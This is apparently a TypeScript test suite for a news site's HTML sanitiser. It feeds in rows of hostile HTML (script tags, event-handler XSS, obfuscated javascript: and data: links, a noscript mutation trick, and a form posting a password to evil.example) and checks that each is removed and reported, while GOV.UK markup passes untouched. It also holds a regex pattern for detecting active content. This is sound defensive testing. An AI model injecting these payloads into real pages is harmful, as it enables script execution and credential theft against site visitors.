// The body sanitiser: an allowlist that fits news; everything else removed and reported, never silently
// (issue 14, finding 3). Table-driven: one row per class of hostile HTML, then what must pass untouched.
import { test } from "node:test";
import assert from "node:assert/strict";
import { bodyFirstLine, bodyIssues, describeRemoval, sanitiseBody, type BodyRemoval } from "../../../lib/content/sanitise.ts";

/** Tags, attributes and URL schemes that must never appear in sanitised output. */
const ACTIVE =
  /<\s*\/?\s*(script|style|iframe|frame|frameset|object|embed|applet|form|input|button|select|textarea|meta|base|link|svg|math|template|noscript)\b|\son[a-z]+\s*=|\sstyle\s*=|\s(srcdoc|formaction|action|http-equiv)\s*=|(javascript|vbscript|data)\s*:/i;

const hostile: Array<{ name: string; html: string; removed: BodyRemoval[] }> = [
  { name: "script", html: `<p>a</p><script>alert(1)</script>`, removed: [{ element: "script" }] },
  { name: "script with src", html: `<script src="/images/evil.js"></script>`, removed: [{ element: "script" }] },
  { name: "upper-case script", html: `<SCRIPT>alert(1)</SCRIPT>`, removed: [{ element: "script" }] },
  { name: "iframe", html: `<iframe src="https://evil.example/"></iframe>`, removed: [{ element: "iframe" }] },
  { name: "iframe with srcdoc", html: `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, removed: [{ element: "iframe" }] },
  { name: "frame and frameset", html: `<frameset><frame src="https://evil.example/"></frameset>`, removed: [{ element: "frameset" }, { element: "frame" }] },
  { name: "object and embed", html: `<object data="x.swf"></object><embed src="x.swf">`, removed: [{ element: "object" }, { element: "embed" }] },
  { name: "event handler on an image", html: `<img src="/images/a.png" alt="A" onerror="alert(1)">`, removed: [{ element: "img", attribute: "onerror", value: "alert(1)" }] },
  { name: "event handler on a link", html: `<a href="/" onmouseover="alert(1)">x</a>`, removed: [{ element: "a", attribute: "onmouseover", value: "alert(1)" }] },
  { name: "upper-case event handler", html: `<p ONCLICK="alert(1)">x</p>`, removed: [{ element: "p", attribute: "onclick", value: "alert(1)" }] },
  {
    name: "form posting to another site",
    html: `<form action="https://evil.example/collect" method="post"><input name="password"><button formaction="https://evil.example/">Go</button></form>`,
    removed: [{ element: "form" }, { element: "input" }, { element: "button" }],
  },
  { name: "meta refresh", html: `<meta http-equiv="refresh" content="0;url=https://evil.example/">`, removed: [{ element: "meta" }] },
  { name: "base", html: `<base href="https://evil.example/">`, removed: [{ element: "base" }] },
  { name: "link", html: `<link rel="stylesheet" href="https://evil.example/a.css">`, removed: [{ element: "link" }] },
  { name: "style element", html: `<style>body{display:none}</style>`, removed: [{ element: "style" }] },
  { name: "style attribute", html: `<p style="position:fixed">x</p>`, removed: [{ element: "p", attribute: "style", value: "position:fixed" }] },
  { name: "svg with script", html: `<svg onload="alert(1)"><script>alert(2)</script></svg>`, removed: [{ element: "svg" }, { element: "script" }] },
  { name: "math", html: `<math><mtext>x</mtext></math>`, removed: [{ element: "math" }, { element: "mtext" }] },
  { name: "template", html: `<template><img src=x onerror=alert(1)></template>`, removed: [{ element: "template" }] },
  { name: "noscript", html: `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>`, removed: [{ element: "noscript" }] },
  { name: "javascript: link", html: `<a href="javascript:alert(1)">x</a>`, removed: [{ element: "a", attribute: "href", value: "javascript:alert(1)" }] },
  { name: "javascript: link with entities", html: `<a href="jav&#x61;script&colon;alert(1)">x</a>`, removed: [{ element: "a", attribute: "href", value: "javascript:alert(1)" }] },
  { name: "javascript: link with a tab", html: `<a href="java&#9;script:alert(1)">x</a>`, removed: [{ element: "a", attribute: "href", value: "java\tscript:alert(1)" }] },
  { name: "javascript: link with leading space", html: `<a href="  JavaScript:alert(1)">x</a>`, removed: [{ element: "a", attribute: "href", value: "  JavaScript:alert(1)" }] },
  { name: "vbscript: link", html: `<a href="vbscript:msgbox(1)">x</a>`, removed: [{ element: "a", attribute: "href", value: "vbscript:msgbox(1)" }] },
  { name: "protocol-relative link", html: `<a href="//evil.example/">x</a>`, removed: [{ element: "a", attribute: "href", value: "//evil.example/" }] },
  { name: "protocol-relative link with a backslash", html: `<a href="/\\evil.example/">x</a>`, removed: [{ element: "a", attribute: "href", value: "/\\evil.example/" }] },
  { name: "data: image", html: `<img src="data:image/png;base64,AAAA" alt="A">`, removed: [{ element: "img", attribute: "src", value: "data:image/png;base64,AAAA" }] },
  {
    name: "data: link",
    html: `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
    removed: [{ element: "a", attribute: "href", value: "data:text/html,<script>alert(1)</script>" }],
  },
  {
    name: "javascript: in a blockquote cite",
    html: `<blockquote cite="javascript:alert(1)">x</blockquote>`,
    removed: [{ element: "blockquote", attribute: "cite", value: "javascript:alert(1)" }],
  },
  { name: "srcset", html: `<img src="/images/a.png" alt="" srcset="javascript:alert(1) 2x">`, removed: [{ element: "img", attribute: "srcset", value: "javascript:alert(1) 2x" }] },
  { name: "data attributes", html: `<div data-module="govuk-button">x</div>`, removed: [{ element: "div", attribute: "data-module", value: "govuk-button" }] },
  { name: "target", html: `<a href="/" target="_blank">x</a>`, removed: [{ element: "a", attribute: "target", value: "_blank" }] },
  { name: "a class that is not GOV.UK's", html: `<p class="govuk-body evil">x</p>`, removed: [{ element: "p", attribute: "class", value: "evil" }] },
  { name: "an image without an address", html: `<img src="" alt="A">`, removed: [{ element: "img", attribute: "src", value: "" }] },
];

for (const { name, html, removed } of hostile) {
  test(`sanitiseBody removes and reports: ${name}`, () => {
    const result = sanitiseBody(html);
    assert.deepEqual(result.removed, removed);
    assert.doesNotMatch(result.html, ACTIVE);
    assert.ok(removed.length > 0);
  });
}

// What the GOV.UK plugin's Markdown writes (before wide characters become references), and plain news HTML:
// through untouched, byte for byte.
const untouched: string[] = [
  `<p class="govuk-body">“Quoted” &amp; &lt;b&gt; &quot;straight&quot; it's<br>\nA line</p>\n`,
  `<h2 id="a-heading" tabindex="-1" class="govuk-heading-l">A heading</h2>\n`,
  `<ul class="govuk-list govuk-list--bullet">\n<li>one</li>\n</ul>\n<ol class="govuk-list govuk-list--number" start="3">\n<li>x</li>\n</ol>\n`,
  `<table tabindex="0" class="govuk-table">\n<thead class="govuk-table__head">\n<tr class="govuk-table__row">\n<th class="govuk-table__header" scope="col">a</th>\n</tr>\n</thead>\n<tbody class="govuk-table__body">\n<tr class="govuk-table__row">\n<td colspan="2" class="govuk-table__cell">1</td>\n</tr>\n</tbody>\n</table>\n`,
  `<hr class="govuk-section-break govuk-section-break--xl govuk-section-break--visible">\n`,
  `<pre class="app-code app-code--block app-code__language--js" tabindex="0"><code><span class="app-code__keyword">const</span> x = &quot;1&quot;;</code></pre>\n`,
  `<p class="govuk-body"><a href="https://www.gov.uk/" title="T" class="govuk-link">GOV.UK</a> <a href="/news/x/">x</a> <a href="#costs">c</a> <a href="mailto:a@b.org">m</a> <a href="tel:+441234">t</a> <a href="../x/">r</a> <a href="http://example.org/">h</a></p>\n`,
  `<figure><img src="/images/a.png" alt="Alone" title="T"></figure>\n<img src="https://assets.example.org/a.png" alt="">`,
  `<figure class="app-attribution">\n<blockquote data-govspeak="blockquote">\n<p class="govuk-body">Words.</p>\n</blockquote>\n<figcaption class="app-attribution__caption">The Minister</figcaption>\n</figure>\n`,
  `<p class="govuk-body">A claim.<sup id="fnref:1"><a class="govuk-link" href="#fn:1" aria-describedby="footnotes-label">1</a></sup></p>\n<footer>\n<h2 id="footnotes-label" class="govuk-visually-hidden">Footnotes</h2>\n<ol class="app-footnotes-list">\n<li id="fn:1"><p class="govuk-body">Source. <a class="govuk-link" href="#fnref:1" aria-label="Back to content">↩︎</a></p>\n</li>\n</ol>\n</footer>\n`,
  `<p class="govuk-body">The <abbr title="National Health Service">NHS</abbr> <ins>in</ins> <del>out</del> <mark>m</mark> H<sub>2</sub>O 2<sup>10</sup> <s>s</s> <q>q</q> <kbd>k</kbd></p>\n`,
  `<dl class="govuk-body">\n<dt class="govuk-!-font-weight-bold govuk-!-margin-bottom-2">\nTerm</dt>\n<dd class="govuk-!-margin-bottom-2 govuk-!-margin-left-4">\nDefinition</dd>\n</dl>\n`,
  `<div class="govuk-inset-text app-inset-text--note"><span class="govuk-visually-hidden">Note: </span><p class="govuk-body">x</p>\n</div>\n`,
  `<div data-govspeak="information-callout" aria-label="Information" role="note">\n<p class="govuk-body">x</p>\n</div>\n`,
  `<nav class="app-contents-list"><h2 class="app-contents-list__title">Contents</h2><ol><li><a href="#one">One</a></li></ol></nav>\n`,
  `<details open><summary>More</summary>Hidden</details>`,
  `<p class="govuk-body"><time datetime="2026-08-17">17 August</time> <b>b</b> <i>i</i> <strong>s</strong> <em>e</em> <code class="app-code app-code--inline">c</code></p>`,
];

for (const html of untouched) {
  test(`sanitiseBody keeps, byte for byte: ${html.slice(0, 60).replace(/\n/g, " ")}`, () => {
    assert.deepEqual(sanitiseBody(html), { html, removed: [] });
  });
}

test("table alignment becomes GOV.UK classes (the CSP blocks inline styles), without a problem", () => {
  const html = `<th style="text-align:right" class="govuk-table__header">a</th><td style="text-align:center">b</td><td style="text-align:left;color:red">c</td>`;
  const result = sanitiseBody(`<table><tr>${html}</tr></table>`);
  assert.equal(result.html, `<table><tr><th class="govuk-table__header govuk-!-text-align-right">a</th><td class="govuk-!-text-align-centre">b</td><td>c</td></tr></table>`);
  assert.deepEqual(result.removed, [{ element: "td", attribute: "style", value: "text-align:left;color:red" }]);
});

test("text of a removed element stays unless the element holds code or hidden text", () => {
  assert.equal(sanitiseBody("<center>kept</center><script>gone</script><style>gone</style><iframe>gone</iframe>").html, "kept");
});

test("comments are dropped without a problem (they are notes, never shown)", () => {
  assert.deepEqual(sanitiseBody("<p>a<!-- note: embargoed figure --></p>"), { html: "<p>a</p>", removed: [] });
});

test("messages say what is wrong and how to fix it", () => {
  const cases: Array<[BodyRemoval, string]> = [
    [{ element: "script" }, "<script> is not allowed in an item's text: remove it"],
    [{ element: "iframe" }, "<iframe> is not allowed in an item's text: remove it and link to what it shows instead"],
    [{ element: "form" }, "<form> is not allowed in an item's text: remove it and link to the form's own page instead"],
    [{ element: "style" }, "<style> is not allowed in an item's text: remove it (the site's own styles apply)"],
    [{ element: "a", attribute: "onclick", value: "x" }, "the onclick attribute on <a> is not allowed in an item's text (it would run script): remove it"],
    [{ element: "p", attribute: "style", value: "x" }, "the style attribute on <p> is not allowed in an item's text: remove it (the site's own styles apply)"],
    [{ element: "p", attribute: "class", value: "big" }, `the class "big" on <p> is not allowed in an item's text: remove it (only GOV.UK classes, starting govuk-, can be used)`],
    [
      { element: "a", attribute: "href", value: "javascript:alert(1)" },
      `the link address "javascript:alert(1)" is not allowed: use an https://, http://, mailto: or tel: address, or a path on this site starting with /`,
    ],
    [
      { element: "img", attribute: "src", value: "data:image/png;base64,AAAA" },
      `the image address "data:image/png;base64,AAAA" is not allowed: put the image in the images folder and write /images/<file name>, or use an https:// address`,
    ],
    [{ element: "img", attribute: "src", value: "" }, "an image has no address (src): add the image's path or remove the image"],
    [
      { element: "a", attribute: "href", value: "\u001b[31m" },
      `the link address "\\u001b[31m" is not allowed: use an https://, http://, mailto: or tel: address, or a path on this site starting with /`,
    ],
    [{ element: "div", attribute: "data-x", value: "1" }, "the data-x attribute on <div> is not allowed in an item's text: remove it"],
  ];
  for (const [removal, message] of cases) assert.equal(describeRemoval(removal), message);
});

test("bodyIssues: one problem per removal, with the file's line, each occurrence on its own line", () => {
  const markdown = 'Intro.\n\n<script>a()</script>\n\nText {onclick="b()"}\n\n<script>c()</script>\n\n<p style="x">y</p>\n';
  const removed: BodyRemoval[] = [
    { element: "script" },
    { element: "p", attribute: "onclick", value: "b()" },
    { element: "script" },
    { element: "p", attribute: "style", value: "x" },
    { element: "blink" },
  ];
  assert.deepEqual(
    bodyIssues("content/news/x.md", markdown, removed, 7).map((i) => `${i.line ?? "-"} ${i.field} ${i.message}`),
    [
      "9 (body) <script> is not allowed in an item's text: remove it",
      "11 (body) the onclick attribute on <p> is not allowed in an item's text (it would run script): remove it",
      "13 (body) <script> is not allowed in an item's text: remove it",
      "15 (body) the style attribute on <p> is not allowed in an item's text: remove it (the site's own styles apply)",
      "- (body) <blink> is not allowed in an item's text: remove it",
    ],
  );
});

test("bodyFirstLine: the line after the front matter", () => {
  assert.equal(bodyFirstLine("---\ntitle: x\n---\nBody\n", "Body\n"), 4);
  assert.equal(bodyFirstLine("\ufeff---\r\ntitle: x\r\n---\r\nBody\r\n", "Body\r\n"), 4);
  assert.equal(bodyFirstLine("Body only\n", "Body only\n"), 1);
  assert.equal(bodyFirstLine("---\ntitle: x\n---\nBody\n", "Edited since\n"), 1);
});
